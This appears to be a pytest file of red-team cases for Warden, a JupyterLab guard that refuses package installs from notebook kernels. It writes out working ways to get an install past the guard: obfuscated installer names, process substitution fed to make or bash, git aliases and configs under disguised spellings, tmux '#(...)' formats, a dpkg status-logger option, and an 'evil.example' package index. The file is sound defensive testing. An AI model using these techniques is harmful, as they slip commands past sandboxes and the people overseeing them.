"""Red team 15, the general forms (tables17): uv's options read per command, deny by default
(R15-14), a command file on a descriptor (R15-15), git settings as a closed model (R15-9,
R15-11) and tmux formats (`#(CMD)`).

Malicious cases run for real prove themselves: they install from the local index in a kernel
without Warden and are refused with it.
"""

import json
import os
import runpy
import subprocess
import tempfile
from pathlib import Path

import pytest
from install_env import GUARDED_ENV
from launched import BUILT, bash_cell, installed
from real_uv import real_uv

from jupyterlab_warden.kernel.guard.installs import arguments, commands
from jupyterlab_warden.kernel.guard.installs.gate import read_requests

REPO = Path(__file__).resolve().parents[2]
UV_TABLE = json.loads((REPO / "schema" / "uv-cli.json").read_text(encoding="utf-8"))


# What the real uv makes of an option in a command (None: not its option, "valued", "flag"):
# the probe the table's generator asks uv with, so the test and the table ask alike.
_uv_answer = runpy.run_path(str(REPO / "scripts" / "uv-cli-probe.py"))["kind"]


@pytest.mark.parametrize("command", ["uv tool run", "uv pip install"])
def test_each_uv_commands_own_table_is_what_the_real_uv_takes(command):
    """R15-14 general form: every option name any uv command has, asked of the real uv in
    ``command``: Warden's table for that command says the same (valued, flag, or not one of
    its options, which Warden refuses). The union table read `uvx --python-fetch V` as a flag
    and `uv pip install --no-binary V` likewise."""
    uv = real_uv()
    own = UV_TABLE["by_command"][command]
    names = sorted(set(UV_TABLE["valued"]) | set(UV_TABLE["flags"]) | set(UV_TABLE["refused"]))
    # left out on purpose (R50a-1): a flag whose effect the probe could not name, and the
    # options Warden refuses with a reason (uv takes them only to reject them)
    probed = json.loads((REPO / "scripts" / "uv-cli-probe-0.13.9.json").read_text())[command]
    unnamed = {f for f, meaning in probed["meanings"].items() if meaning == "?"}
    unnamed |= set(UV_TABLE["refused"])
    with tempfile.TemporaryDirectory() as home:
        wrong = {}
        for name in names:
            answer = _uv_answer(uv, command.split()[1:], name, home)
            answer = None if name in unnamed else answer
            table = "valued" if name in own["valued"] else "flag" if name in own["flags"] else None
            if answer != table:
                wrong[name] = (answer, table)
    assert wrong == {}


def test_uvx_reads_its_own_options_deny_by_default():
    """An option of another uv command (uv would refuse it) is no option of uvx: refused,
    not read as a flag whose value would be the tool."""
    (request,) = read_requests(
        ["uvx", "--max-recursion-depth", "3", "black"], None, dict(GUARDED_ENV), "/"
    )
    assert any("--max-recursion-depth" in p for p in request.problems)
    argv = ["uvx", "--python-fetch", "never", "--index-url", "https://evil.example/simple"]
    (request,) = read_requests(argv + ["--from", "torcj", "black"], None, dict(GUARDED_ENV), "/")
    assert "torcj" in [r.name for r in request.requirements] and not request.problems


@pytest.mark.parametrize(
    "tool", ["python", "python3", "python3.12", "python@3.12", "--from black python"]
)
def test_uvx_python_is_the_interpreter_not_a_package(tool):
    """`uvx python ...` runs uv's Python interpreter (no package named python: it was refused
    as an imitation of ipython); its --with packages are still read."""
    assert arguments.uv_python_tool(tool.split()[-1])
    argv = ["uvx", "--with", "numpy", *tool.split(), "-c", "print(1)"]
    (request,) = read_requests(argv, None, dict(GUARDED_ENV), "/")
    names = [r.name for r in request.requirements]
    assert "python" not in names and "numpy" in names
    assert not arguments.uv_python_tool("pythonw") and not arguments.uv_python_tool("ipython")


def test_uvx_python_runs_an_interpreter_with_the_real_uv(tmp_path):
    """What the exemption rests on: uv 0.13.9 runs `uvx python` offline with an empty cache
    (so it resolved no package), while `uvx pythonw` resolves a package."""
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "UV_NO_CONFIG": "1", "UV_OFFLINE": "1"}
    uvx = [real_uv(), "tool", "run"]
    ran = subprocess.run(
        uvx + ["python", "-c", "print('interp')"], capture_output=True, text=True, env=env
    )
    assert ran.returncode == 0 and ran.stdout.strip() == "interp", ran.stderr
    package = subprocess.run(uvx + ["pythonw"], capture_output=True, text=True, env=env)
    assert package.returncode != 0 and "pythonw was not found" in package.stderr


# make's recipe line and bash's script: the installer's name built by printf (`u%sv`), so no
# word of the line names it; {target} and {index} are filled by Kernel.cell
PRINTF_BUILT = BUILT.replace("u$@v p$@ip", "u%sv p%sip")


@pytest.mark.parametrize(
    "line",
    [
        # R15-15: glued to the option, bash substitutes /dev/fd/N inside the word; shlex split
        # it off, so --file= had an empty value and the makefile was never looked at
        "make -s --file=<(printf 'x:\\n\\t" + PRINTF_BUILT + "\\n' '' '') x",
        "make -s -f<(printf 'x:\\n\\t" + PRINTF_BUILT + "\\n' '' '') x",
        # the same rule for a shell's script operand: a script the line builds
        "bash <(printf '" + PRINTF_BUILT + "' '' '')",
        # and for the shell's own source / .
        "source <(printf '" + PRINTF_BUILT + "' '' '')",
    ],
)
def test_a_file_of_commands_on_a_descriptor_is_refused(kernel, line):
    installed("make")
    kernel.proves(bash_cell(line))


# git writes the alias `zz` (shell text that installs) into .git/config under another
# spelling of `git config`, then runs it (R15-9, R15-11); one line, so the proof is one cell
GIT_WRITE = "git init -q r && cd r && "
ZZ = "alias.zz '!" + BUILT + "' && git zz"


@pytest.mark.parametrize(
    "line",
    [
        GIT_WRITE + "git -c alias.cfg=config cfg " + ZZ,
        GIT_WRITE
        + "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.cfg GIT_CONFIG_VALUE_0=config git cfg "
        + ZZ,
        GIT_WRITE + "git -c help.autocorrect=immediate confgi " + ZZ,
        GIT_WRITE + "git config -f .git/config " + ZZ,
        GIT_WRITE + "git config --type bool-or-str " + ZZ,
    ],
)
def test_git_config_written_under_another_spelling_is_read(kernel, line):
    kernel.proves_command_text_refused("git", line)


@pytest.mark.parametrize(
    "line",
    [
        "tmux display -p '#(u$@v sync)'",
        "tmux -L s new -d -n '#(u$@v sync)'",
        "tmux display -p '#{E:@x}'",
        "tmux -L s new -d 'sleep 3' \\; display -p '#(u$@v sync)'",
        "tmux -L s new -d 'sleep 3' \\; display-m -p '#(u$@v sync)'",
        "tmux -L s new -d 'sleep 3' \\; setw -g window-status-format '#(u$@v sync)'",
        "tmux -L s new -d 'sleep 3' \\; set -g status-right '#(u$@v sync)'",
    ],
)
def test_a_tmux_format_that_runs_a_command_is_refused(line):
    """tmux runs the shell command inside `#( )` wherever it expands a format (display -p,
    window names, status formats), and `#{E:...}` expands a value as a format again."""
    with pytest.raises(commands.Unreadable):
        commands.shell_invocations(line)


@pytest.mark.parametrize(
    "line",
    ["tmux ls", "tmux new -s work", "tmux display -p '#{session_name}'", "tmux display -p '#S'"],
)
def test_ordinary_tmux_formats_pass(line):
    assert commands.shell_invocations(line) == []


def test_a_tmux_status_format_installs_when_a_client_attaches(kernel):
    """tmux runs a window-status-current-format's `#(CMD)` when a client draws the status line: the
    line sets it (setw was read as data), a client attaches (script gives it a terminal, as a
    user's later `tmux attach` would) and the job signals a channel the line waits on, so the
    install has finished when the cell returns (no sleep); the job then ends the server."""
    for program in ("tmux", "script", "timeout"):
        installed(program)
    sock = f"warden-{os.getpid()}"
    tmux = f"tmux -L {sock}"
    line = (
        f"{tmux} new -d 'sleep 60' \\; setw -g window-status-current-format "
        f"'#({BUILT}; {tmux} wait-for -S ran; {tmux} kill-server)' && "
        f"(timeout 60 script -qc '{tmux} attach' /dev/null >/dev/null 2>&1 &) && "
        f"timeout 60 {tmux} wait-for ran"
    )
    try:
        kernel.proves_command_text_refused("tmux", line)
    finally:
        subprocess.run(["tmux", "-L", sock, "kill-server"], capture_output=True, timeout=30)


@pytest.mark.parametrize(
    "line, refused",
    [
        ("apt-get -o Dpkg::Options::=--force-confnew install -y x", False),
        (
            "apt-get -o Dpkg::Options::=--force-confold -o Dpkg::Options::=--force-confdef "
            "install -y x",
            False,
        ),
        ("apt-get -o 'Dpkg::Options::=--status-logger=u$@v sync' install -y x", True),
        ("apt-get -o Dpkg::Options::=--admindir=/tmp/x install -y x", True),
    ],
)
def test_apt_dpkg_options_are_a_closed_list(line, refused):
    """apt passes Dpkg::Options to dpkg: the --force-/--refuse- families are data (an ordinary
    `-o Dpkg::Options::=--force-confnew` was refused with every other value); any other dpkg
    option refuses (`--status-logger=CMD` runs CMD)."""
    if refused:
        with pytest.raises(commands.Unreadable):
            commands.shell_invocations(line)
    else:
        assert commands.shell_invocations(line) == []
